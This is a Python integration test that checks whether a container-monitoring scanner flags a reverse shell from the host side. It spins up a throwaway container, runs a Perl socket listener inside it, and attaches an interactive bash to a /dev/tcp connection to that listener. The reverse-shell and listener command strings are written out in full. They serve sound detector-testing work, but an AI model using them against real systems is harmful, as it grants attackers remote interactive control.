"""The host-side scanner finds a real reverse shell in a real container.

Inside a throwaway container, a listener binds the container's own eth0 address and a
`bash -i` gets its stdin/stdout/stderr on a TCP connection to it (its command line is
just `bash -i`: only the descriptors give it away). Traffic never leaves the container.
"""

from __future__ import annotations

import shlex
import time
import uuid
from pathlib import Path

from coi.incus import instances
from coi.incus.client import Client
from coi.incus.exec import run
from coi.monitor import detectors, procs
from coi.monitor.findings import Finding, Severity

LISTENER = ('$s=IO::Socket::INET->new(LocalAddr=>"{ip}",LocalPort=>4444,Listen=>1)'
            " or die; $c=$s->accept; sleep 300")
SHELL = "exec 3<>/dev/tcp/{ip}/4444; exec bash -i <&3 >&3 2>&3"


def _wait_for_ipv4(client: Client, name: str) -> str:
    for _ in range(60):
        addresses = instances.state(client, name).ipv4
        if addresses:
            return addresses[0]
        time.sleep(0.5)
    raise AssertionError(f"{name} got no IPv4 address")


def _critical_shells(init_pid: int) -> list[Finding]:
    snap = procs.scan_container(Path("/proc"), init_pid)
    return [f for f in detectors.detect(snap)
            if f.severity == Severity.CRITICAL and f.detector == "reverse_shell"]


def test_shell_on_a_socket_is_critical_from_the_host(
        incus: Client, test_image: str, cleanup_instances: list[str]) -> None:
    name = f"coi-mon{uuid.uuid4().hex[:8]}"
    cleanup_instances.append(name)
    incus.sync("POST", "/instances", {"name": name, "start": True,
                                      "source": {"type": "image", "alias": test_image}},
               timeout=120)
    ip = _wait_for_ipv4(incus, name)
    init_pid = instances.state(incus, name).pid
    assert _critical_shells(init_pid) == []  # a fresh container is clean

    listener = shlex.join(["perl", "-MIO::Socket::INET", "-e", LISTENER.format(ip=ip)])
    shell = shlex.join(["bash", "-c", SHELL.format(ip=ip)])
    quiet = "</dev/null >/dev/null 2>&1 &"
    script = f"setsid {listener} {quiet} sleep 1; setsid {shell} {quiet}"
    assert run(incus, name, ["sh", "-c", script], timeout=30).ok

    found: list[Finding] = []
    for _ in range(40):
        found = _critical_shells(init_pid)
        if found:
            break
        time.sleep(0.25)
    assert len(found) == 1, "the reverse shell was not detected (or the listener was)"
    evidence = found[0].evidence
    assert evidence["cmdline"] == "bash -i"
    assert evidence["socket"]["remote"] == f"{ip}:4444"
    assert evidence["reason"] == "stdin/stdout is a network socket"
